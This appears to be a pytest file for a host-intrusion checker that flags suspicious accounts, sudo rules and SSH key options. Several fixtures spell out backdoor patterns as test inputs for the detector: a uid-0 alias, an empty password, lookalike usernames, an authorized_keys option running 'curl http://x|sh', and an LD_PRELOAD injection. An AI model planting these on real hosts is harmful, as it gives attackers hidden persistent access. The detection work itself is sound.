"""Accounts, the ways into them, and what to ask of their owners."""

from __future__ import annotations

import time
from base64 import b64encode
from pathlib import Path

import pytest

from hostguardd.investigate.checks import accounts
from hostguardd.investigate.interface import Verdict, text
from tests.fakepackages import FakePackages
from tests.scenes import Findings, looked, scene
from tests.trees import OWNED, PASSWD, clean, put
from tests.unit.investigate.test_recent import login

ED = b64encode(b"\0\0\0\x0bssh-ed25519" + bytes(36)).decode()
TODAY = int(time.time() // 86400)


def look(root: Path) -> Findings:
    return looked(accounts.look, scene(bytes(root), packages=FakePackages(OWNED)))


def also(root: Path, passwd: str, shadow: str = "") -> Path:
    """One more account on a clean host."""
    clean(root)
    put(root, "/etc/passwd", PASSWD + passwd + "\n")
    if shadow:
        put(root, "/etc/shadow", (root / "etc/shadow").read_text() + shadow + "\n")
    return root


def test_a_clean_host(tmp_path: Path) -> None:
    found = look(clean(tmp_path))
    assert not found.of(Verdict.SUSPICIOUS)
    assert not found.of(Verdict.NOTABLE)
    carol = found.named("carol")
    assert "logs in with a password" in carol.says
    assert str(carol.details["ask"]).startswith("['Did you change /home/carol/.bashrc on ")


@pytest.mark.parametrize(
    ("passwd", "shadow", "words"),
    [
        ("toor:x:0:0::/root:/bin/bash", "", "root by another name"),
        ("open::1001:1001::/home/open:/bin/bash", "", "asks for no password"),
        (
            "svc:x:300:300::/var/lib/svc:/bin/bash",
            "svc:$y$j9T$a$b:19000::::::",
            "that somebody can log in to",
        ),
        ("odd:x:1001:1001::/home/odd:/tmp/.sh", "", "its shell /tmp/.sh"),
        ("+::0:0:::", "", "asks a directory service"),
        ("cаrol:x:1001:1001::/home/x:/bin/bash", "", "taken for another one (c\\u0430rol)"),
        ("ｃarol:x:1001:1001::/home/x:/bin/bash", "", "taken for another one"),
        ("carol\u200b:x:1001:1001::/home/x:/bin/bash", "", "taken for another one"),
    ],
)
def test_accounts_that_no_healthy_host_has(tmp_path: Path, passwd: str, shadow: str, words: str) -> None:
    found = look(also(tmp_path, passwd, shadow))
    (item,) = found.of(Verdict.SUSPICIOUS)
    assert item.name == text(passwd.split(":")[0].encode())
    assert words in item.says
    assert item.evidence[0].source.startswith("/etc/passwd:")


@pytest.mark.parametrize(
    ("passwd", "shadow", "words"),
    [
        ("twin:x:1000:1000::/home/x:/bin/bash", "", "has the uid of carol"),
        (
            "svc:x:300:300::/var/lib/svc:/bin/bash",
            "svc:!:19000::::::",
            "an account of a service with a shell",
        ),
        ("md:x:1001:1001::/home/md:/bin/bash", "md:$1$ab$cd:19000::::::", "that no current tool writes"),
        ("сосо:x:1001:1001::/home/x:/bin/bash", "", "letters that useradd(8) does not take"),
        ("花子:x:1001:1001::/home/x:/bin/bash", "", "letters that useradd(8) does not take"),
        ("own:x:1001:0::/home/own:/bin/bash", "", "its own group is root's"),
        ("new:x:1001:1001::/home/new:/bin/bash", f"new:$y$j9T$a$b:{TODAY}::::::", "was changed on"),
    ],
)
def test_accounts_worth_a_note(tmp_path: Path, passwd: str, shadow: str, words: str) -> None:
    found = look(also(tmp_path, passwd, shadow))
    (item,) = found.of(Verdict.NOTABLE)
    assert words in item.says
    assert not found.suspicious


def test_no_hash_is_told(tmp_path: Path) -> None:
    found = look(also(tmp_path, "md:x:1001:1001::/home/md:/bin/bash", f"md:$1$salty$hashhash:{TODAY}::::::"))
    assert "hashhash" not in repr((found.items, found.moments, found.unseen))
    assert "salty" not in repr(found.items)


def test_what_to_ask(tmp_path: Path) -> None:
    at = time.time() - 7200
    also(tmp_path, "new:x:1001:1001::/home/new:/bin/bash", f"new:$y$j9T$a$b:{TODAY}::::::")
    login(tmp_path, "new", at, at + 600)
    put(tmp_path, "/home/new/.ssh/authorized_keys", f"ssh-ed25519 {ED} me@laptop\n", 0o600)
    ask = look(tmp_path).named("new").details["ask"]
    assert isinstance(ask, list)
    stamp = time.strftime("%Y-%m-%d %H:%M", time.gmtime(at))
    assert ask[0].startswith(f"Did you log in from 203.0.113.9 on {stamp} UTC until ")
    assert f"Did you change your password on {time.strftime('%Y-%m-%d', time.gmtime())}?" in ask
    assert any("authorized_keys" in one for one in ask)
    assert "Are these keys yours: me@laptop?" in ask


def test_what_sudo_gives(tmp_path: Path) -> None:
    also(tmp_path, "dave:x:1001:1001::/home/dave:/bin/bash")
    put(tmp_path, "/etc/group", "root:x:0:\nops:x:2000:dave\n")
    put(tmp_path, "/etc/sudoers.d/ops", "%ops ALL=(root) NOPASSWD: /usr/bin/systemctl\n@include /opt/ops\n")
    put(tmp_path, "/opt/ops", "dave ALL=(root) /usr/bin/ls\n")
    sudo = look(tmp_path).named("dave").details["sudo"]
    assert sudo == [
        "lets dave run /usr/bin/ls as root (/opt/ops:1)",
        "lets group ops run /usr/bin/systemctl as root, without a password (/etc/sudoers.d/ops:1)",
    ]


def test_groups_that_are_root_by_another_name(tmp_path: Path) -> None:
    put(clean(tmp_path), "/etc/group", "root:x:0:\ndisk:x:6:carol\nadm2:x:0:carol\n")
    found = look(tmp_path)
    assert "reads and writes every disk" in found.named("carol").says
    assert found.suspicious == ["group adm2"]


@pytest.mark.parametrize(
    ("options", "verdict", "words"),
    [
        ("", Verdict.FINE, "opens carol"),
        ("no-pty ", Verdict.FINE, "opens carol"),
        ('command="/usr/bin/rsync --server" ', Verdict.NOTABLE, "runs"),
        ('command="curl http://x|sh" ', Verdict.SUSPICIOUS, "hands a download"),
        ('environment="LD_PRELOAD=/x.so" ', Verdict.SUSPICIOUS, "sets"),
        ("cert-authority ", Verdict.NOTABLE, "certificate"),
        ("frobnicate ", Verdict.NOTABLE, "which sshd does not know"),
    ],
)
def test_keys(tmp_path: Path, options: str, verdict: Verdict, words: str) -> None:
    put(clean(tmp_path), "/home/carol/.ssh/authorized_keys", f"{options}ssh-ed25519 {ED} me@x\n", 0o600)
    (item,) = [one for one in look(tmp_path).items if one.name.startswith("key ")]
    assert item.verdict is verdict
    assert words in item.says
    assert item.parent == "carol"


def test_a_key_of_a_service(tmp_path: Path) -> None:
    also(tmp_path, "www:x:33:33::/var/www:/usr/sbin/nologin")
    put(tmp_path, "/var/www/.ssh/authorized_keys", f"ssh-ed25519 {ED} me@x\n", 0o600)
    (item,) = [one for one in look(tmp_path).items if one.name.startswith("key ")]
    assert item.verdict is Verdict.NOTABLE


def test_a_damaged_line_is_told_by_its_place(tmp_path: Path) -> None:
    put(clean(tmp_path), "/etc/passwd", PASSWD + "secret garbage\n")
    found = look(tmp_path)
    assert "secret" not in repr(found.items)
    assert found.of(Verdict.NOTABLE)[0].name.startswith("line /etc/passwd ")


def test_many_accounts_that_changed_lately_are_told_once(tmp_path: Path) -> None:
    people = [f"p{number}" for number in range(6)]
    passwd = "".join(f"{name}:x:{1100 + at}:1000::/home/{name}:/bin/bash\n" for at, name in enumerate(people))
    put(clean(tmp_path), "/etc/passwd", PASSWD + passwd)
    put(tmp_path, "/etc/shadow", "".join(f"{name}:$y$j9T$a$b:{TODAY}::::::\n" for name in people), 0o600)
    found = look(tmp_path)
    (item,) = [one for one in found.of(Verdict.NOTABLE) if "changed" in one.says]
    assert item.details["accounts"] == people
    assert "Did you change your password" in str(found.named("p3").details["ask"])
    assert {one.who for one in found.moments} == set(people)
    assert {one.verdict for one in found.moments} == {Verdict.NOTABLE}


def test_nobody_is_asked_for_the_password_of_an_account_that_nobody_uses(tmp_path: Path) -> None:
    """All accounts of a host that was just installed have the day of it in shadow."""
    put(clean(tmp_path), "/etc/passwd", PASSWD + "spool:x:77:77::/:/usr/sbin/nologin\n")
    put(tmp_path, "/etc/shadow", f"spool:*:{TODAY}::::::\n", 0o600)
    assert look(tmp_path).named("spool").details["ask"] == []
